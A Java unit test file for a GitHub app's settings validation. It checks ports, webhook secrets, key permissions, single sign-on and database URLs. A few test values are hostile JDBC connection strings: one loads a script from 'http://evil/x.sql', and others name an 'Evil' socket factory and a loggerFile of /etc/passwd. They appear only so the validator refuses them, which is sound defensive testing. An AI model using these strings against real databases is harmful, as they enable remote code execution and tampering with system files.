package dev.fixwright;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.fixwright.access.Issuer;
import dev.fixwright.database.DatabaseAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.KeyPairGenerator;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class SettingsTest {
    private static String pem;

    private final Map<String, String> environment = new HashMap<>();
    private Path key;

    /** Once for all tests: finding the primes of a key takes a second. */
    @BeforeAll
    static void makeTheAppsKey() throws Exception {
        pem = pem();
    }

    @BeforeEach
    void completeSettings(@TempDir Path directory) throws Exception {
        key = Files.writeString(directory.resolve("key.pem"), pem);
        Files.setPosixFilePermissions(key, PosixFilePermissions.fromString("rw-------"));
        environment.put("FIXWRIGHT_APP_ID", "123456");
        environment.put("FIXWRIGHT_PRIVATE_KEY_FILE", key.toString());
        environment.put("FIXWRIGHT_WEBHOOK_SECRET", "0123456789abcdef0123456789abcdef");
    }

    @Test
    void completeSettingsAreTaken() {
        Settings settings = Settings.of(environment, Map.of());

        assertThat(settings.port()).isEqualTo(8080);
        assertThat(settings.database()).isEqualTo(new DatabaseAddress.Directory(Path.of("data")));
        assertThat(settings.app().orElseThrow().gitHub().issuer()).isEqualTo("123456");
        assertThat(settings.app().orElseThrow().webhookSecrets()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://fixwright.example.com", "http://10.0.0.7:8080/", "HTTPS://fixwright.example.com/"})
    void publicAddressIsASchemeAndAHost(String address) {
        environment.put("FIXWRIGHT_PUBLIC_URL", address);

        assertThat(Settings.of(environment, Map.of())
                        .app()
                        .orElseThrow()
                        .publicAddress()
                        .orElseThrow()
                        .resolve("/proofs/1"))
                .hasToString(address.replaceFirst("/$", "") + "/proofs/1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "fixwright.example.com",
                "ftp://fixwright.example.com",
                "https://fixwright.example.com/bot",
                "https://fixwright.example.com/?a=b",
                "https://me@fixwright.example.com",
                "https://",
                "https://a b"
            })
    void publicAddressOfAnotherFormIsRefused(String address) {
        environment.put("FIXWRIGHT_PUBLIC_URL", address);

        assertThat(problems())
                .singleElement()
                .asString()
                .startsWith("FIXWRIGHT_PUBLIC_URL (--public-url) is \"" + address + "\". Set the address that people");
    }

    @Test
    void flagWinsOverTheEnvironment() {
        environment.put("FIXWRIGHT_PORT", "1");

        assertThat(Settings.of(environment, Map.of("FIXWRIGHT_PORT", "9000")).port())
                .isEqualTo(9000);
    }

    @Test
    void withoutAnAppTheServerIsToBeSetUp() {
        assertThat(Settings.of(Map.of(), Map.of()).app()).isEmpty();
    }

    @Test
    void everyWrongSettingIsNamedAtOnceWithItsVariableAndItsFlag(@TempDir Path directory) throws Exception {
        Path open = Files.writeString(directory.resolve("open"), "fedcba9876543210fedcba9876543210");
        Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rw-r--r--"));
        environment.put("FIXWRIGHT_PORT", "http");
        environment.put("FIXWRIGHT_WORKERS", "0");
        environment.put("FIXWRIGHT_WRITES_PER_HOUR", "many");
        environment.put("FIXWRIGHT_LOG_LEVEL", "verbose");
        environment.put("FIXWRIGHT_DATA_DIR", key + "/data");
        environment.put("FIXWRIGHT_DATABASE_PASSWORD_FILE", directory.toString());
        environment.put("FIXWRIGHT_APP_ID", "my-app");
        environment.put("FIXWRIGHT_PRIVATE_KEY_FILE", "/nowhere/key.pem");
        environment.put("FIXWRIGHT_WEBHOOK_SECRET", "development");
        environment.put("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS_FILE", open.toString());
        environment.put("FIXWRIGHT_GITHUB_URL", "https://github.com");

        assertThat(problems())
                .satisfiesExactlyInAnyOrder(
                        starts("FIXWRIGHT_PORT (--port) is not a number: http. Set one from 0 to 65535."),
                        starts("FIXWRIGHT_WORKERS (--workers) is 0. Set a number from 1 to 64."),
                        starts("FIXWRIGHT_WRITES_PER_HOUR (--writes-per-hour) is not a number"),
                        starts("FIXWRIGHT_LOG_LEVEL is \"verbose\". Set DEBUG, INFO, WARN or ERROR."),
                        starts("FIXWRIGHT_DATA_DIR (--data-dir) is " + key + "/data, but " + key
                                + " is a file. Set a folder."),
                        starts("FIXWRIGHT_DATABASE_PASSWORD_FILE (--database-password-file) names a folder: "),
                        starts("FIXWRIGHT_APP_ID (--app-id) is \"my-app\". Set the client id"),
                        starts("FIXWRIGHT_PRIVATE_KEY_FILE (--private-key-file) names a file that is not there: "),
                        starts("FIXWRIGHT_WEBHOOK_SECRET (--webhook-secret) is a default that everybody knows. "),
                        starts(
                                "FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS_FILE (--webhook-secret-previous-file) names a file that"
                                        + " everybody on this machine may read: " + open + ". Run: chmod 600 " + open),
                        starts("FIXWRIGHT_GITHUB_URL (--github-url) must be an https:// address of GitHub's REST API"));
    }

    @Test
    void singleSignOnIsSetWholeOrNotAtAll() {
        assertThat(Settings.of(environment, Map.of()).api().entry().issuer()).isEmpty();
        environment.put("FIXWRIGHT_OIDC_ROLE_CLAIM", "groups");

        assertThat(problems())
                .satisfiesExactly(
                        starts("FIXWRIGHT_OIDC_ISSUER (--oidc-issuer) is not set, and single sign-on needs it"),
                        starts("FIXWRIGHT_OIDC_AUDIENCE (--oidc-audience) is not set"),
                        starts("FIXWRIGHT_OIDC_JWKS_URL (--oidc-jwks-url) is not set"));

        environment.put("FIXWRIGHT_OIDC_ISSUER", "https://login.example.com/");
        environment.put("FIXWRIGHT_OIDC_AUDIENCE", "fixwright");
        environment.put("FIXWRIGHT_OIDC_JWKS_URL", "https://login.example.com/keys");
        assertThat(Settings.of(environment, Map.of()).api().entry().issuer())
                .contains(new Issuer(
                        "https://login.example.com/",
                        "fixwright",
                        URI.create("https://login.example.com/keys"),
                        "tenant",
                        "groups"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"http://login.example.com/keys", "file:///keys", "https://me@login.example.com/keys", "keys"})
    void keysOfAnIssuerAreFetchedSafelyOrNotAtAll(String address) {
        environment.put("FIXWRIGHT_OIDC_ISSUER", "https://login.example.com/");
        environment.put("FIXWRIGHT_OIDC_AUDIENCE", "fixwright");
        environment.put("FIXWRIGHT_OIDC_JWKS_URL", address);
        environment.put("FIXWRIGHT_KEY_IN_URL", "maybe");

        assertThat(problems())
                .satisfiesExactly(
                        starts("FIXWRIGHT_KEY_IN_URL (--key-in-url) is \"maybe\". Set on or off"),
                        starts("FIXWRIGHT_OIDC_JWKS_URL (--oidc-jwks-url) is \"" + address + "\". Set an https://"));
    }

    private static Consumer<String> starts(String expected) {
        return problem -> assertThat(problem).startsWith(expected);
    }

    @Test
    void wrongDatabaseAddressIsNamedWithTheOthers() {
        environment.put("FIXWRIGHT_PORT", "70000");
        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");

        assertThat(problems())
                .satisfiesExactlyInAnyOrder(
                        starts("FIXWRIGHT_PORT (--port) is 70000."),
                        starts("FIXWRIGHT_DATABASE_URL (--database-url) must begin with jdbc:postgresql://"));
    }

    @Test
    void emptySecretFileIsRefused(@TempDir Path directory) throws Exception {
        Path file = Files.writeString(directory.resolve("secret"), "\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
        environment.put("FIXWRIGHT_WEBHOOK_SECRET_FILE", file.toString());

        assertThat(problems())
                .singleElement()
                .asString()
                .startsWith("FIXWRIGHT_WEBHOOK_SECRET_FILE (--webhook-secret-file) names an empty file");
    }

    @Test
    void portThatKubernetesSetForAServiceIsExplained() {
        environment.put("FIXWRIGHT_PORT", "tcp://10.0.0.7:8080");

        assertThat(problems()).singleElement().asString().contains("Kubernetes", "enableServiceLinks");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Iv1.0123456789abcdef", "Iv23liAbCdEfGhIjKlMn", "1", "123456"})
    void clientIdAndNumberAreTaken(String id) {
        environment.put("FIXWRIGHT_APP_ID", id);

        assertThat(Settings.of(environment, Map.of())
                        .app()
                        .orElseThrow()
                        .gitHub()
                        .issuer())
                .isEqualTo(id);
    }

    @Test
    void dataDirectoryThatTheSystemRefusesIsToldWithAllElse() {
        environment.put("FIXWRIGHT_DATA_DIR", "/proc/nowhere/data");
        environment.put("FIXWRIGHT_PORT", "99999");

        assertThat(problems())
                .hasSize(2)
                .anySatisfy(line -> assertThat(line).startsWith("FIXWRIGHT_PORT (--port) is 99999"))
                .anySatisfy(line -> assertThat(line)
                        .startsWith(
                                "FIXWRIGHT_DATA_DIR (--data-dir) is /proc/nowhere/data, but this user may not write"));
        environment.put("FIXWRIGHT_DATA_DIR", "a\u0000b");
        assertThat(problems())
                .hasSize(2)
                .anySatisfy(line -> assertThat(line).startsWith("FIXWRIGHT_DATA_DIR (--data-dir) is no path"));
    }

    @Test
    void misspeltVariablesAreToldWithTheNearestName() {
        environment.put("FIXWRIGHT_PROT", "8080");
        environment.put("FIXWRIGHT_DATABSE_URL", "x");
        environment.put("FIXWRIGHT_ENTIRELY_ELSEWHERE", "x");
        environment.put("FIXWRIGHT_DATABASE_USER", "known, and not asked for without a database");
        environment.put("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS_FILE", "");
        environment.put("FIXWRIGHT_LOG_LEVEL", "INFO");
        environment.put("FIXWRIGHT_SERVICE_HOST", "10.0.0.1");
        environment.put("FIXWRIGHT_PORT_8080_TCP", "tcp://10.0.0.1:8080");
        environment.put("PATH", "/bin");

        assertThat(Settings.strangers(environment))
                .containsExactly(
                        "FIXWRIGHT_DATABSE_URL is no setting of Fixwright; did you mean FIXWRIGHT_DATABASE_URL?",
                        "FIXWRIGHT_ENTIRELY_ELSEWHERE is no setting of Fixwright, and does nothing.",
                        "FIXWRIGHT_PROT is no setting of Fixwright; did you mean FIXWRIGHT_PORT?");
    }

    @Test
    void commandsWithoutTheServersFlagsNameNone() {
        assertThatThrownBy(() -> Settings.timePerFile(Map.of("FIXWRIGHT_SECONDS_PER_FILE", "x")))
                .isInstanceOfSatisfying(
                        SettingsException.class,
                        e -> assertThat(e.problems())
                                .containsExactly(
                                        "FIXWRIGHT_SECONDS_PER_FILE is not a number: x. Set one from 1 to 3600."));
    }

    @Test
    void dataDirectoryIsNotMadeByLookingAtIt(@TempDir Path directory) {
        environment.put("FIXWRIGHT_DATA_DIR", directory.resolve("a/b").toString());

        Settings.of(environment, Map.of());

        assertThat(directory).isEmptyDirectory();
    }

    @ParameterizedTest
    @ValueSource(strings = {"debug", "INFO", "Warn", "error"})
    void logLevelIsTakenInAnyCase(String level) {
        environment.put("FIXWRIGHT_LOG_LEVEL", level);

        assertThat(Settings.of(environment, Map.of()).port()).isEqualTo(8080);
    }

    @Test
    void appWithoutAWebhookSecretIsRefused() {
        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");

        assertThat(problems()).singleElement().asString().contains("anybody could send deliveries");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "development",
                "secret",
                "changeme",
                "It's a Secret to Everybody",
                "short-but-random-9f8a7c6b5",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "abababababababababababababababababababab"
            })
    void guessableWebhookSecretIsRefusedAndNotRepeated(String secret) {
        environment.put("FIXWRIGHT_WEBHOOK_SECRET", secret);

        assertThat(problems())
                .singleElement()
                .asString()
                .contains("openssl rand")
                .doesNotContain(" " + secret + " ");
    }

    @Test
    void secretMayStandInAFile(@TempDir Path directory) throws Exception {
        Path file = Files.writeString(directory.resolve("secret"), "fedcba9876543210fedcba9876543210\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
        environment.put("FIXWRIGHT_WEBHOOK_SECRET_FILE", file.toString());

        assertThat(Settings.of(environment, Map.of())
                        .app()
                        .orElseThrow()
                        .webhookSecrets()
                        .get(0)
                        .reveal())
                .isEqualTo("fedcba9876543210fedcba9876543210");
    }

    @Test
    void previousSecretHoldsBesideTheNewOne() {
        environment.put("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS", "fedcba9876543210fedcba9876543210");

        assertThat(Settings.of(environment, Map.of()).app().orElseThrow().webhookSecrets())
                .hasSize(2);
    }

    @Test
    void keyThatEverybodyMayReadIsRefused() throws Exception {
        Files.setPosixFilePermissions(key, PosixFilePermissions.fromString("rw-r--r--"));

        assertThat(problems()).singleElement().asString().contains("chmod 600");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/data/x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'",
                "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
                "jdbc:postgresql://db/x?sslmode=require&loggerFile=/etc/passwd",
                "jdbc:postgresql://db/x?user=a&password=b",
                "jdbc:mysql://db/x"
            })
    void databaseAddressThatCouldRunSomethingIsRefused(String url) {
        environment.put("FIXWRIGHT_DATABASE_URL", url);

        assertThat(problems()).singleElement().asString().startsWith("FIXWRIGHT_DATABASE_URL");
    }

    @Test
    void postgreSqlIsTakenWithItsUserAndPassword() {
        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:postgresql://db/fixwright?sslmode=require");
        environment.put("FIXWRIGHT_DATABASE_USER", "bot");
        environment.put("FIXWRIGHT_DATABASE_PASSWORD", "hunter2");

        assertThat(Settings.of(environment, Map.of()).database())
                .hasToString("jdbc:postgresql://db/fixwright?sslmode=require as bot");
    }

    @Test
    void settingsNeverPrintTheirSecrets() {
        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:postgresql://db/fixwright");
        environment.put("FIXWRIGHT_DATABASE_PASSWORD", "hunter2");

        assertThat(Settings.of(environment, Map.of()).toString())
                .doesNotContain("hunter2", "0123456789abcdef", "PRIVATE");
    }

    @Test
    void halfAnAppIsRefused() {
        environment.remove("FIXWRIGHT_APP_ID");

        assertThatThrownBy(() -> Settings.of(environment, Map.of()))
                .isInstanceOf(SettingsException.class)
                .hasMessageContaining("FIXWRIGHT_APP_ID");
    }

    @Test
    void certificatesFileIsToldOfAsTheOthersAre(@TempDir Path directory) throws Exception {
        Path file = directory.resolve("certificates.yml");
        environment.put("FIXWRIGHT_CERTIFICATES_FILE", file.toString());
        environment.put("FIXWRIGHT_PORT", "http");
        assertThat(problems())
                .satisfiesExactlyInAnyOrder(
                        starts("FIXWRIGHT_PORT"),
                        starts("FIXWRIGHT_CERTIFICATES_FILE (--certificates-file) names a file that is not there: "
                                + file + "."));

        Files.createDirectory(file);
        assertThat(problems())
                .contains("FIXWRIGHT_CERTIFICATES_FILE (--certificates-file) cannot be read: " + file
                        + ". It must be a UTF-8 text file.");

        Files.delete(file);
        Files.writeString(file, """
                acme:
                  direktory: https://ca.example.com/dir
                  external-account: { key-id: a, key-file: /nowhere/key }
                """);
        String where = "FIXWRIGHT_CERTIFICATES_FILE (--certificates-file) cannot be used: " + file;
        assertThat(problems())
                .contains(
                        where + ":2: acme.direktory is not a key; did you mean directory?",
                        where
                                + ":3: acme.external-account.key-file names a file that is not there: /nowhere/key. Set the"
                                + " path of the file.")
                .hasSize(5);
    }

    private List<String> problems() {
        return catchThrowableOfType(SettingsException.class, () -> Settings.of(environment, Map.of()))
                .problems();
    }

    private static String pem() throws Exception {
        byte[] encoded = KeyPairGenerator.getInstance("RSA")
                .generateKeyPair()
                .getPrivate()
                .getEncoded();
        return "-----BEGIN PRIVATE KEY-----\n" + Base64.getMimeEncoder().encodeToString(encoded)
                + "\n-----END PRIVATE KEY-----\n";
    }
}
